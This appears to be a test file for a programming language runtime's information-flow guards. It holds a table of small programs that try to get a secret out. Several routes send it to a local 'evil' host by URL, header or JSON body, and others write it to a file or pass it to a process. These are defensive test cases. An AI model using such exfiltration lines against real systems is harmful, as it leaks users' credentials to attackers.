@@ -1,0 +1,292 @@
+// Provenance guards, attacked (spec/runtime.md, "Origins on values"): a secret
+// read through a guarded capability (an environment variable, a file, an HTTP
+// response body) and every way a program might try to get it out: printed,
+// interpolated, transformed, measured, computed into numbers, put into records,
+// lists, maps and pairs, encoded as JSON, passed through lambdas, queries and
+// recursion, used as a map key, sent to another host in a URL, a header or a
+// body, written to a file, passed to a process, returned from a server's
+// handler, carried in a failure or a crash. Each must be stopped with nothing
+// leaving; each flow to the granted sink must still work. Real `renyi run`
+// processes, real servers on 127.0.0.1 (the sink, the attacker, the source).
+
+import { test, after, before } from "node:test";
+import assert from "node:assert/strict";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, request as httpRequest, type Server } from "node:http";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { freePort, startProgram } from "./support.js";
+
+const SECRET = "hunter2-Zq9";
+/** Forms of the secret a leak might take: as it is, shouted, reversed, spelled out. */
+const FORMS = [SECRET, SECRET.toUpperCase(), [...SECRET].reverse().join(""), [...SECRET].join("-"), [...SECRET].join(",")];
+
+const work = mkdtempSync(join(tmpdir(), "renyi-guards-"));
+after(() => rmSync(work, { recursive: true, force: true }));
+
+interface Heard {
+  url: string;
+  headers: string;
+  body: string;
+}
+
+/** A server on 127.0.0.1 that answers 200 `reply` and remembers every request. */
+async function listen(reply: string): Promise<{ server: Server; port: number; heard: Heard[] }> {
+  const heard: Heard[] = [];
+  const server = createServer((req, res) => {
+    let body = "";
+    req.on("data", (d: Buffer) => (body += d.toString()));
+    req.on("end", () => {
+      heard.push({ url: req.url ?? "", headers: JSON.stringify(req.headers), body });
+      res.end(reply);
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { server, port: (server.address() as { port: number }).port, heard };
+}
+
+let sink: Awaited<ReturnType<typeof listen>>;
+let evil: Awaited<ReturnType<typeof listen>>;
+let source: Awaited<ReturnType<typeof listen>>;
+
+before(async () => {
+  sink = await listen("ok");
+  evil = await listen("thanks");
+  source = await listen(SECRET);
+  mkdirSync(join(work, "secrets"));
+  writeFileSync(join(work, "secrets", "key.txt"), SECRET);
+});
+after(() => {
+  for (const s of [sink, evil, source]) s.server.close();
+});
+
+/** Where the secret comes from: the guarded capability and how it is read. */
+const SOURCES = {
+  environment: { need: 'environment("SECRET")', read: 'environment.get("SECRET").or_else("")' },
+  file: { need: 'filesystem.read("secrets")', read: 'filesystem.read_text("secrets/key.txt") otherwise crash with "no file"' },
+  http: { need: () => `network.http("127.0.0.1:${source.port}")`, read: () => `(http.get("http://127.0.0.1:${source.port}/secret") otherwise crash with "no source").body` },
+} as const;
+type SourceName = keyof typeof SOURCES;
+
+const PROGRAM = (sourceName: SourceName, body: string, socket: number, guarded = true) => {
+  const s = SOURCES[sourceName];
+  const need = typeof s.need === "function" ? s.need() : s.need;
+  const read = typeof s.read === "function" ? s.read() : s.read;
+  return `type Holder is record
+  value: Text
+end
+
+function shout(x: Text) returns Text
+  purpose: Shout.
+  return x.upper() + "!"
+end
+
+function reversed(x: Text) returns Text
+  purpose: Reverse by recursion.
+  if x.length() <= 1
+    return x
+  end
+  return reversed(x.slice(1, x.length())) + x.slice(0, 1)
+end
+
+public function main()
+  purpose: Try one way out.
+  needs console, network.http("127.0.0.1:${sink.port}"), network.http("127.0.0.1:${evil.port}"), filesystem.write("out"), process("touch"), network.socket(${socket}), ${need}${guarded ? ` only to network.http("127.0.0.1:${sink.port}")` : ""}
+  let secret be ${read}
+  let evil be "http://127.0.0.1:${evil.port}"
+  let sink be "http://127.0.0.1:${sink.port}"
+${body
+  .trim()
+  .split("\n")
+  .map((l) => `  ${l}`)
+  .join("\n")}
+end
+`;
+};
+
+/** Ways out that must be stopped: each program's only output would be the secret's. */
+const ATTACKS: Record<string, string> = {
+  "printed": "console.print(secret)",
+  "interpolated": 'console.print("the key is {secret}")',
+  "upper": "console.print(secret.upper())",
+  "split and joined": 'console.print(text.join(secret.split(""), "-"))',
+  "sliced": "console.print(secret.slice(0, 4))",
+  "replaced": 'console.print(secret.replace("h", "H"))',
+  "characters one by one": "for each c in secret.characters()\n  console.print(c)\nend",
+  "measured": 'console.print("{secret.length()}")',
+  "computed into a number": "let n be secret.length() * 7 + 1\nconsole.print(n.to_text())",
+  "a loop's counter": "var last be 0\nfor each i in 1 to secret.length()\n  set last to i\nend\nconsole.print(\"{last}\")",
+  "in a record": 'let h be Holder(value: secret)\nconsole.print("{h}")',
+  "through a record's field": "let h be Holder(value: secret)\nconsole.print(h.value)",
+  "with": 'let h be Holder(value: "x") with value: secret\nconsole.print(h.value)',
+  "in a list": 'console.print("{[secret, "x"]}")',
+  "a list's item": 'let xs be ["x", secret]\nconsole.print(xs.last().or_else("none"))',
+  "in a map": 'let m be {"k": secret}\nconsole.print(m.get("k").or_else("none"))',
+  "as a map key": 'let m be {secret: 1}\nconsole.print("{m.keys()}")',
+  "as a key put in a map": 'let m be map.put({"a": 1}, secret, 2)\nconsole.print("{m.keys()}")',
+  "in a pair": 'let p be (secret, 1)\nconsole.print("{p}")',
+  "unpacked from a pair": "let (a, b) be (secret, 1)\nconsole.print(a)",
+  "as JSON": "console.print(json.encode(secret))",
+  "through to_json": 'console.print("{secret.to_json()}")',
+  "through a lambda": 'let f be function (x: Text) returns Text\n  return x + "."\nend\nconsole.print(f(secret))',
+  "through list.map": 'let ys be list.map([secret], function (x: Text) returns Text\n  return x + "."\nend)\nconsole.print(text.join(ys, ""))',
+  "through a function": "console.print(shout(secret))",
+  "through recursion": "console.print(reversed(secret))",
+  "through a query": 'let ys be from c in secret.characters() select c.upper()\nconsole.print(text.join(ys, ""))',
+  "through a query's where": 'let ys be from c in secret.characters() where c is not "z" select c\nconsole.print("{ys}")',
+  "grouped": 'let gs be from c in secret.characters() group by c into g select g.key\nconsole.print("{gs}")',
+  "sorted": 'let ys be from c in secret.characters() sort by c select c\nconsole.print("{ys}")',
+  "matched": 'match secret.split("-")\n  when [first, ...rest] then console.print(first)\n  when _ then console.print("none")\nend',
+  "appended in a var": "var acc be [\"x\"]\nset acc to acc + [secret]\nconsole.print(\"{acc}\")",
+  "in concurrent tasks": "run concurrently\n  let a be shout(secret)\n  let b be shout(\"b\")\nend\nconsole.print(a)",
+  "in a crash": "crash with secret",
+  "in a crash's message": 'crash with "the key was {secret}"',
+  "to another host in the URL": 'let r be http.get("{evil}/?k={secret}") otherwise crash with "blocked"',
+  "to another host in a header": 'let r be http.get(evil, {"x-key": secret}) otherwise crash with "blocked"',
+  "to another host in the body": 'let r be http.post(evil, secret) otherwise crash with "blocked"',
+  "to another host as JSON": 'let r be http.post(evil, json.encode([secret])) otherwise crash with "blocked"',
+  "written to a file": 'filesystem.write_text("out/leak.txt", secret) otherwise crash with "blocked"',
+  "passed to a process": 'let r be process.run("touch", ["out/{secret}"]) otherwise crash with "blocked"',
+};
+
+/** Flows to the granted sink (and decisions, which carry no origin): each must work. */
+const ALLOWED: Record<string, { body: string; heard?: (h: Heard) => boolean; stdout?: RegExp }> = {
+  "sent to the sink in the body": { body: 'let r be http.post(sink, secret) otherwise crash with "refused"\nconsole.print("sent {r.status}")', heard: (h) => h.body === SECRET, stdout: /^sent 200\n$/ },
+  "sent to the sink in a header": { body: 'let r be http.get(sink, {"x-key": secret.upper()}) otherwise crash with "refused"\nconsole.print("sent")', heard: (h) => h.headers.includes(SECRET.toUpperCase()) },
+  "sent to the sink in the URL, from a record": { body: 'let h be Holder(value: secret)\nlet r be http.get("{sink}/?k={h.value}") otherwise crash with "refused"\nconsole.print("sent")', heard: (h) => h.url.includes(SECRET) },
+  "a decision about it printed": { body: 'console.print("set: {not secret.is_empty()}")', stdout: /^set: true\n$/ },
+  // The limit the seed states: control flow is not followed, so the number of a loop's turns is a decision, not data.
+  "an implicit flow, counting a loop's turns (not followed, as stated)": { body: "var count be 0\nfor each i in 1 to secret.length()\n  set count to count + 1\nend\nconsole.print(\"{count}\")", stdout: /^11\n$/ },
+  "unrelated work printed": { body: 'let n be 6 * 7\nconsole.print("{n} {[1, 2].length()}")', stdout: /^42 2\n$/ },
+};
+
+/** Runs cases a few at a time. */
+async function inBatches<T>(items: readonly T[], size: number, run: (item: T) => Promise<void>): Promise<void> {
+  for (let i = 0; i < items.length; i += size) await Promise.all(items.slice(i, i + size).map(run));
+}
+
+/** Whether a text shows the secret, or four letters of it in a row, forwards or backwards, whatever stands between them. */
+function leaked(text: string): boolean {
+  const letters = text.toLowerCase().replace(/[^a-z0-9]/g, "");
+  return FORMS.some((f) => text.includes(f)) || letters.includes("hunt") || letters.includes("tnuh");
+}
+
+function outFiles(): string[] {
+  const out = join(work, "out");
+  return existsSync(out) ? readdirSync(out) : [];
+}
+
+test("every way out of the program is stopped, with nothing leaving: from the environment, a file and a response body", async () => {
+  mkdirSync(join(work, "out"), { recursive: true });
+  const cases: [SourceName, string, string][] = [];
+  for (const [name, body] of Object.entries(ATTACKS)) cases.push(["environment", name, body]);
+  for (const name of ["printed", "interpolated", "measured", "in a record", "through a query", "to another host in the body", "to another host in a header", "written to a file", "passed to a process", "in a crash's message"]) {
+    cases.push(["file", name, ATTACKS[name]!], ["http", name, ATTACKS[name]!]);
+  }
+  const evilBefore = evil.heard.length;
+  await inBatches(cases, 4, async ([sourceName, name, body]) => {
+    const socket = await freePort();
+    const ran = await startProgram(work, PROGRAM(sourceName, body, socket), { env: { SECRET } }).done;
+    const what = `${sourceName}, ${name}`;
+    assert.notEqual(ran.status, 0, `${what}: the program finished: ${ran.stdout}`);
+    assert.equal(ran.stdout, "", `${what}: printed ${ran.stdout}`);
+    assert.ok(!leaked(ran.stderr), `${what}: stderr shows the secret: ${ran.stderr}`);
+    assert.match(ran.stderr, /E-RT-GUARD|blocked/, `${what}: ${ran.stderr}`);
+    assert.doesNotMatch(ran.stderr, /E-RT-INTERNAL/, what);
+  });
+  assert.equal(evil.heard.length, evilBefore, `the other host was reached: ${JSON.stringify(evil.heard)}`);
+  assert.deepEqual(outFiles(), [], "a file was written or a process ran");
+  console.log(`guards: ${cases.length} ways out stopped`);
+});
+
+test("without the guard, the same programs do get the secret out: each attack above is a real one", async () => {
+  const evilBefore = evil.heard.length;
+  let leaks = 0;
+  await inBatches(Object.entries(ATTACKS), 4, async ([name, body]) => {
+    rmSync(join(work, "out"), { recursive: true, force: true });
+    mkdirSync(join(work, "out"), { recursive: true });
+    const heard = evil.heard.length;
+    const socket = await freePort();
+    const ran = await startProgram(work, PROGRAM("environment", body, socket, false), { env: { SECRET } }).done;
+    // Each attack's only output is what it derived from the secret: printed at all, it got out.
+    const got = (ran.status === 0 && ran.stdout !== "") || leaked(ran.stderr) || evil.heard.slice(heard).some((h) => leaked(h.url + h.headers + h.body)) || outFiles().length > 0;
+    assert.ok(got, `${name}: nothing left without the guard either: ${ran.stdout} ${ran.stderr}`);
+    leaks++;
+  });
+  assert.ok(evil.heard.length > evilBefore);
+  rmSync(join(work, "out"), { recursive: true, force: true });
+  console.log(`guards: ${leaks} attacks leak without the guard`);
+});
+
+test("the granted sink still gets the secret, and decisions about it may be printed", async () => {
+  let checked = 0;
+  await inBatches(Object.entries(ALLOWED), 4, async ([name, c]) => {
+    const before = sink.heard.length;
+    const socket = await freePort();
+    const ran = await startProgram(work, PROGRAM("environment", c.body, socket), { env: { SECRET } }).done;
+    assert.equal(ran.status, 0, `${name}: ${ran.stderr}`);
+    if (c.stdout !== undefined) assert.match(ran.stdout, c.stdout, name);
+    if (c.heard !== undefined) assert.ok(sink.heard.slice(before).some(c.heard), `${name}: the sink did not get it: ${JSON.stringify(sink.heard.slice(before))}`);
+    checked++;
+  });
+  console.log(`guards: ${checked} allowed flows`);
+});
+
+test("a handler's response that carries guarded data is answered 500 with the guard's message, never the data", async () => {
+  const socket = await freePort();
+  const body = `server.serve(${socket}, function (request: Request) returns Response
+  return server.respond(200, "key {secret}")
+end, Some(1)) otherwise crash with "no server"`;
+  const started = startProgram(work, PROGRAM("environment", body, socket), { env: { SECRET } });
+  const answer = await getWhenUp(socket);
+  const ran = await started.done;
+  assert.equal(answer.status, 500);
+  assert.ok(!leaked(answer.body), answer.body);
+  assert.ok(!leaked(ran.stderr + ran.stdout), ran.stderr);
+  assert.match(ran.stderr, /E-RT-GUARD\]: the response was refused: it carries data from environment\("SECRET"\)/);
+});
+
+test("a failure main ends with is checked against the console like a print", async () => {
+  const file = `public function main() or fails with Text
+  purpose: Fail with the secret.
+  needs environment("SECRET") only to network.http("127.0.0.1")
+  fail with environment.get("SECRET").or_else("")
+end
+`;
+  const ran = await startProgram(work, file, { env: { SECRET } }).done;
+  assert.equal(ran.status, 2, ran.stderr);
+  assert.ok(!leaked(ran.stderr + ran.stdout), ran.stderr);
+  assert.match(ran.stderr, /error\[E-RT-GUARD\]: the failure it ended with was refused/);
+});
+
+test("a fallible call refused by a guard fails, and otherwise handles the failure like any other", async () => {
+  const socket = await freePort();
+  const before = evil.heard.length;
+  const body = `let status be (http.post(evil, secret) otherwise
+  when _ then Response(status: -1, headers: {}, body: "", bytes: "".to_bytes())
+end).status
+console.print("handled {status}")`;
+  const ran = await startProgram(work, PROGRAM("environment", body, socket), { env: { SECRET } }).done;
+  assert.equal(ran.status, 0, ran.stderr);
+  assert.equal(ran.stdout, "handled -1\n");
+  assert.equal(evil.heard.length, before);
+});
+
+async function getWhenUp(port: number): Promise<{ status: number; body: string }> {
+  for (let i = 0; i < 200; i++) {
+    try {
+      return await new Promise((resolve, reject) => {
+        const req = httpRequest({ host: "127.0.0.1", port, path: "/" }, (res) => {
+          let body = "";
+          res.on("data", (d: Buffer) => (body += d.toString()));
+          res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
+        });
+        req.on("error", reject);
+        req.end();
+      });
+    } catch {
+      await new Promise((r) => setTimeout(r, 50));
+    }
+  }
+  throw new Error("the server never came up");
+}
